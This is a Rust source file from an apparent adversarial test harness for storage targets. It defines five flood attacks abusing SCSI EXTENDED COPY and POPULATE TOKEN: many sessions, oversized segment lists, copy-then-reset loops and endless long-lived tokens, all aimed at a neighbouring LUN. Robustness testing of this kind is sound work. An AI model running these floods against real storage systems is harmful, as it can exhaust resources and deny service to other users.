//! Third-party copies: long lists, many at once, unlimited tokens. SPC-4 §6.4, SBC-3 §5.8.

use crate::adversary::attack::Attack;
use crate::adversary::attacker::{Attacker, Destination};
use crate::adversary::cdb::{CdbBytes, cdb};
use crate::adversary::flood::Flood;
use crate::adversary::session::{RawSession, flags};
use crate::wire::extended_copy::{cscd, naa_designator, segment};
use anyhow::{Context, Result};
use std::time::Duration;

/// The attacks of this file.
pub const ATTACKS: &[Attack] = &[
    Attack::new("copies", 4, copies)
        .summary("4 sessions: EXTENDED COPY of 32 MiB within a neighbour LUN, 128 outstanding"),
    Attack::new("copy-long-lists", 4, long_lists)
        .summary("EXTENDED COPY with lists of up to 64 KiB: thousands of segments of one block"),
    Attack::new("copy-lists-refused", 8, lists_refused)
        .summary("8 sessions: EXTENDED COPY with 256 segments, of which the last is refused"),
    Attack::new("copy-then-reset", 4, copy_then_reset)
        .summary("EXTENDED COPY is sent and the connection is reset, as fast as possible"),
    Attack::new("tokens", 4, tokens).summary("POPULATE TOKEN endlessly, each token for 10 minutes"),
];

/// Reads the designator of the unit.
fn designator(session: &mut RawSession) -> Result<Vec<u8>> {
    let limit = Duration::from_secs(2);
    let page = session.execute(&cdb(&[0x12, 1, 0x83, 0x10, 0]), &[], 4096, limit)?;
    naa_designator(&page.data).context("no NAA designator")
}

/// Builds EXTENDED COPY (LID1) with its parameter list.
fn copy(list: u8, designator: &[u8], segments: &[u8]) -> (CdbBytes, Vec<u8>) {
    let unit = cscd(designator, 512);
    let mut parameters = vec![0; 16];
    (parameters[0], parameters[3]) = (list, unit.len() as u8);
    parameters[8..12].copy_from_slice(&(segments.len() as u32).to_be_bytes());
    parameters.extend([&unit[..], segments].concat());
    let mut cdb = cdb(&[0x83]);
    cdb[10..14].copy_from_slice(&(parameters.len() as u32).to_be_bytes());
    (cdb, parameters)
}

/// Sends copies of these segments, each as a WRITE whose list is immediate data or requested by
/// R2T.
fn flood(attacker: &Attacker, sessions: usize, segments: &[u8]) -> Result<()> {
    let Some(mut first) = attacker.retry(|| attacker.log_in(Destination::Neighbour, 9)) else {
        return Ok(());
    };
    let Some(name) = attacker.retry(|| designator(&mut first)) else { return Ok(()) };
    Flood::new(sessions, Destination::Neighbour).reading(
        attacker,
        |session| {
            let list = session.random.next_u64() as u8;
            let (cdb, parameters) = copy(list, &name, segments);
            let bytes = parameters.len() as u32;
            let command = session.command(flags::SIMPLE | flags::WRITE, &cdb, bytes);
            let immediate = &parameters[..parameters.len().min(65_536)];
            session.queue(&command.with_data(immediate));
        },
        |_, _| {},
    )
}

fn copies(attacker: &Attacker) -> Result<()> {
    // Copies 32 MiB from the first half of the disk to the second.
    flood(attacker, 4, &segment([0, 0], 0xfff8, 0, 0x1_0000))
}

fn long_lists(attacker: &Attacker) -> Result<()> {
    let segments: Vec<u8> =
        (0..2300).flat_map(|lba| segment([0, 0], 1, lba, 0x1_0000 + lba)).collect();
    // Lists that the target refuses for their length are also sent in a length that it may accept.
    attacker.in_threads(2, |thread| {
        let end = if thread == 0 { segments.len() } else { 28 * 64 };
        drop(flood(attacker, 4, &segments[..end]));
    });
    Ok(())
}

/// Sends lists whose last segment is out of range and ends the command, after the target has
/// checked all other segments.
fn lists_refused(attacker: &Attacker) -> Result<()> {
    let good = (0..255).flat_map(|_| segment([0, 0], 1, 0, 8));
    let segments: Vec<u8> = good.chain(segment([0, 0], 1, 1 << 40, 8)).collect();
    flood(attacker, 8, &segments)
}

fn copy_then_reset(attacker: &Attacker) -> Result<()> {
    let Some(mut first) = attacker.retry(|| attacker.log_in(Destination::Neighbour, 9)) else {
        return Ok(());
    };
    let Some(name) = attacker.retry(|| designator(&mut first)) else { return Ok(()) };
    let (cdb, parameters) = copy(1, &name, &segment([0, 0], 0xfff8, 0, 0x1_0000));
    attacker.in_threads(2, |thread| {
        for number in (thread..).step_by(2).take_while(|_| !attacker.is_over()) {
            let Ok(mut session) = attacker.log_in(Destination::Neighbour, number % 8) else {
                continue;
            };
            for _ in 0..16 {
                let bytes = parameters.len() as u32;
                let command = session.command(flags::SIMPLE | flags::WRITE, &cdb, bytes);
                session.queue(&command.with_data(&parameters[..]));
            }
            session.connection.send_all(Duration::from_millis(20));
            attacker.count(&mut session);
        }
    });
    Ok(())
}

fn tokens(attacker: &Attacker) -> Result<()> {
    Flood::new(4, Destination::Neighbour).reading(
        attacker,
        |session| {
            // Inactivity timeout of 600 s and one range of 8 blocks. SBC-3 §5.7.3.
            let mut parameters = vec![0, 30, 0, 0];
            parameters.extend(600_u32.to_be_bytes());
            parameters.extend([0, 0, 0, 0, 0, 0, 0, 16]);
            parameters.extend(session.random.below(1 << 16).to_be_bytes());
            parameters.extend([0, 0, 0, 8, 0, 0, 0, 0]);
            let mut cdb = cdb(&[0x83, 0x10]);
            let list = session.random.next_u64() as u32;
            cdb[6..10].copy_from_slice(&list.to_be_bytes());
            cdb[13] = 32;
            let command = session.command(flags::SIMPLE | flags::WRITE, &cdb, 32);
            session.queue(&command.with_data(parameters));
        },
        |_, _| {},
    )
}
